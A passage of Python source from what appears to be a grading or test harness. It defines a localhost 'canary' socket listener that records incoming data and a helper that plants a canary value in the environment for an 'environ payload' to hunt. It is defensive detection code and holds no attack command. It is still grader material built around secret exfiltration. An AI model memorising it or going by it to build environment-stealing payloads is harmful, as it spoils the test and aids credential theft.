    when the port is taken (`listening` says which)."""

    def __init__(self, port: int = CANARY_PORT) -> None:
        self.received: list[bytes] = []
        self.listening = False
        self._sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            self._sock.bind(("127.0.0.1", port))
            self._sock.listen(16)
            self._sock.settimeout(0.5)
            self.listening = True
        except OSError:
            self._sock.close()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self._sock.accept()
            except (socket.timeout, OSError):
                continue
            with conn:
                conn.settimeout(2)
                data = b""
                try:
                    while chunk := conn.recv(65536):
                        data += chunk
                except OSError:
                    pass
                self.received.append(data)

    def __enter__(self) -> "CanaryListener":
        if self.listening:
            self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        if self.listening:
            self._thread.join(timeout=3)
            self._sock.close()


def canary_env(value: str) -> dict[str, str]:
    """The environment to grade in: this one, PYTHONPATH at the repo, and the canary the environ payload hunts."""
    return {**os.environ, "PYTHONPATH": str(REPO), CANARY_ENV: value}
